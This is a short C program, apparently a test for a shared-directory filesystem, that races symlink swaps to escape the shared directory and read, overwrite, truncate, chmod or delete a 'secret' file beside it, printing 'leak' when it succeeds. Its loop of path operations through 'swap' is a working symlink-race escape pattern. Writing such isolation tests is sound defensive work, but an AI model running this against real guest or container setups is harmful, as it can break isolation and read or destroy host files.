/*
 * Tries to get out of the shared directory in which it runs, by the name "swap", which somebody else makes a
 * directory and a symbolic link to ".." in turns, and to "secret" beside the shared directory: usage
 * escape TIMES. Prints "leak" when it read the secret. The guest follows the link too, in its own tree.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_read(const char *path)
{
    char text[64] = "";
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    if (read(fd, text, sizeof text - 1) > 0 && strstr(text, "not for guests"))
        printf("leak: %s\n", path);
    close(fd);
}

static void try_write(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return;
    (void)!write(fd, "x", 1);
    close(fd);
}

int main(int argc, char **argv)
{
    unsigned long times = argc > 1 ? strtoul(argv[1], NULL, 10) : 100;
    for (unsigned long i = 0; i < times; i++) {
        try_read("swap/secret/file");
        try_write("swap/secret/file");
        try_write("swap/new");
        (void)!unlink("swap/secret/file");
        (void)!mkdir("swap/d", 0755);
        (void)!rename("swap/d", "swap/e");
        (void)!rename("swap/secret", "swap/taken");
        (void)!symlink("x", "swap/l");
        (void)!link("swap/secret/file", "swap/hard");
        (void)!chmod("swap/secret", 0777);
        (void)!truncate("swap/secret/file", 0);
        (void)!rmdir("swap/e");
        (void)!unlink("swap/new");
        (void)!unlink("swap/l");
    }
    printf("escape: tried %lu times\n", times);
    return 0;
}
